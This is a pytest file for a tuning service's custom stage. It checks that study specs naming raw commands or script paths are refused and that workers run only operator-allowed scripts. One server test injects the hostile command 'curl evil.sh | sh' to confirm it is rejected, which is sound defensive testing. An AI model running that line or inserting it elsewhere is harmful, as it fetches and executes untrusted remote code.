"""The custom stage: a study names a script its workers allow and never supplies a command;
a worker runs only the scripts its operator allowed, and refuses the rest clearly."""

from __future__ import annotations

import copy
import subprocess
import sys
from pathlib import Path
from typing import Any

import grpc
import pytest

from stagetune.contract.client import StudyClient, WorkerClient
from stagetune.contract.errors import InvalidArgument
from stagetune.contract.spec import (
    spec_from_mapping,
    spec_from_proto,
    spec_to_proto,
    validate_spec,
)
from stagetune.contract.spec.custom import COMMAND_KEYS
from stagetune.server.app import StagetuneServer
from stagetune.trainer.allowed_scripts import parse_allowed_scripts
from stagetune.trainer.worker import Worker, WorkerSettings
from stagetune.v1 import study_service_pb2 as ss
from stagetune.v1 import study_service_pb2_grpc as ss_grpc
from stagetune.v1 import types_pb2 as pb
from stagetune.v1 import worker_service_pb2 as ws
from tests.conftest import REPO

EXAMPLE = REPO / "tests" / "examples" / "hf_trainer_finetune.py"


def custom(**runner: Any) -> dict[str, Any]:
    return {
        "name": "mine",
        "stage": "custom",
        "search_space": {
            "learning_rate": {"type": "float", "low": 1e-4, "high": 1e-2, "log": True},
            "adam_beta2": {"type": "float", "low": 0.9, "high": 0.999},
            "schedule": {"type": "categorical", "choices": ["cosine", "linear"]},
        },
        "objectives": ["eval_loss", "peak_memory_mb"],
        "fidelity": {"min_steps": 2, "max_steps": 8, "reduction_factor": 2},
        "budget": {"max_trials": 1, "max_retries": 0},
        "runner": {"script": "finetune", "training": {"batch": 8}, **runner},
    }


def refused(data: dict[str, Any]) -> InvalidArgument:
    with pytest.raises(InvalidArgument) as err:
        validate_spec(spec_from_mapping(data))
    return err.value


def test_a_custom_study_names_its_script_and_params_of_the_scripts_own() -> None:
    spec = spec_from_mapping(custom())
    validate_spec(spec)
    msg = spec_to_proto(spec)
    assert msg.stage == pb.STAGE_CUSTOM
    assert spec_from_proto(msg) == spec
    assert spec.metric_names == ["eval_loss", "peak_memory_mb"]


def test_a_custom_study_names_its_objectives_there_are_no_defaults() -> None:
    data = custom()
    del data["objectives"]
    assert refused(data).field == "objectives"


@pytest.mark.parametrize("key", sorted(COMMAND_KEYS))
def test_a_spec_carrying_a_command_is_refused_naming_the_field(key: str) -> None:
    err = refused(custom(**{key: "python /tmp/mine.py"}))
    assert err.field == f"runner.{key}"
    assert "cannot supply a command" in err.problem


@pytest.mark.parametrize("script", ["/tmp/mine.py", "../train.py", "python train.py", "", 3])
def test_a_script_given_as_a_path_or_command_is_refused_naming_runner_script(
    script: object,
) -> None:
    err = refused(custom(script=script))
    assert err.field == "runner.script"


@pytest.mark.parametrize(
    ("edit", "field"),
    [
        (lambda d: d["runner"].pop("script"), "runner.script"),
        (lambda d: d["runner"].update(model={"tiny": {}}), "runner.model"),
        (
            lambda d: d["search_space"].update(
                learning_rate={"type": "float", "low": 0, "high": 1}
            ),
            "search_space.learning_rate.low",
        ),
        (
            lambda d: d["search_space"].update({"a b": {"type": "int", "low": 1, "high": 2}}),
            "search_space.a b",
        ),
        (lambda d: d["runner"]["training"].update(zero_stage=4), "runner.training.zero_stage"),
        (lambda d: d["runner"]["training"].update(batch={"n": 1}), "runner.training.batch"),
    ],
    ids=["no-script", "model", "common-knob-bounds", "bad-name", "common-fixed", "not-scalar"],
)
def test_what_a_custom_spec_gets_wrong_is_named(edit: Any, field: str) -> None:
    data = copy.deepcopy(custom())
    edit(data)
    assert refused(data).field == field


def test_the_server_answers_invalid_argument_naming_the_command_field(
    server: StagetuneServer,
) -> None:
    spec = spec_from_mapping(custom())
    msg = spec_to_proto(spec)
    msg.runner.update({"command": "curl evil.sh | sh"})
    channel = grpc.insecure_channel(server.address)
    with pytest.raises(grpc.RpcError) as err:
        ss_grpc.StudyServiceStub(channel).CreateStudy(ss.CreateStudyRequest(spec=msg), timeout=10)
    channel.close()
    assert err.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert err.value.details().startswith("runner.command: ")
    with StudyClient(server.address, retries=0) as client:
        msg.runner.Clear()
        msg.runner.update({"script": "/opt/evil.py"})
        with pytest.raises(InvalidArgument) as refused_path:
            client.create_study(msg)
        assert refused_path.value.field == "runner.script"
        assert client.list_studies() == []


def test_allow_script_takes_name_equals_an_existing_file(tmp_path: Path) -> None:
    assert parse_allowed_scripts([f"finetune={EXAMPLE}"]) == {"finetune": EXAMPLE.resolve()}
    for entry, problem in [
        ("finetune", "expected NAME=PATH"),
        (f"fine/tune={EXAMPLE}", "a script name is"),
        (f"finetune={tmp_path / 'missing.py'}", "no such file"),
    ]:
        with pytest.raises(InvalidArgument, match=problem) as err:
            parse_allowed_scripts([entry])
        assert err.value.field == "--allow-script"
    with pytest.raises(InvalidArgument, match="given twice"):
        parse_allowed_scripts([f"a={EXAMPLE}", f"a={EXAMPLE}"])


def test_the_worker_cli_refuses_a_bad_allow_script_in_one_line(tmp_path: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "stagetune.cli", "worker", "--server", "127.0.0.1:9"]
        + ["--allow-script", f"finetune={tmp_path / 'nope.py'}"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 2
    assert result.stderr.strip() == (
        f"stagetune worker: --allow-script: finetune={tmp_path / 'nope.py'}: no such file"
    )


def test_submit_sends_a_custom_study_from_the_cli(server: StagetuneServer) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "stagetune.cli", "submit", str(EXAMPLE.with_name("finetune.yaml"))]
        + ["--server", server.address],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert "created study finetune-example (custom, 6 trials)" in result.stdout


def test_a_worker_without_the_script_gets_no_trial_and_says_why(
    server: StagetuneServer, tmp_path: Path
) -> None:
    with StudyClient(server.address) as client:
        client.create_study(spec_from_mapping(custom()))
        # Any worker: the server never hands it a trial of a script its operator lacks.
        with WorkerClient(server.address) as wc:
            got = wc.acquire("w-plain", study_name="mine", scripts=["other"])
        assert isinstance(got, ws.NoTrial)
        assert "a trial needs script 'finetune'; this worker allows other" in got.reason
        # A worker started for that one study ends at once and names the flag to use.
        worker = Worker(
            WorkerSettings(
                server=server.address,
                study_name="mine",
                worker_id="w-plain",
                work_dir=tmp_path / "work",
                poll_interval=0.1,
                scripts={"other": EXAMPLE},
            )
        )
        with pytest.raises(InvalidArgument) as err:
            worker.run()
        assert err.value.field == "--allow-script"
        assert "does not allow script 'finetune' (it allows: other)" in err.value.message
        assert client.get_study("mine").counts.waiting == 0  # nothing handed out or spent
        assert client.list_trials("mine") == []
    assert not list((tmp_path / "work").rglob("trial.log")), "no trial process may start"


def test_a_custom_trial_launches_the_allowed_script_under_accelerate(tmp_path: Path) -> None:
    from stagetune.trainer.trial_launch import launch_command

    cmd = launch_command(tmp_path / "a.json", 2, cpu=True, script=EXAMPLE)
    assert cmd[:3] == [sys.executable, "-m", "accelerate.commands.launch"]
    assert "--multi_gpu" in cmd and cmd[cmd.index("--num_processes") + 1] == "2"
    assert cmd[-5:] == [
        "-m",
        "stagetune.trainer.custom_trial",
        str(tmp_path / "a.json"),
        "--script",
        str(EXAMPLE),
    ]
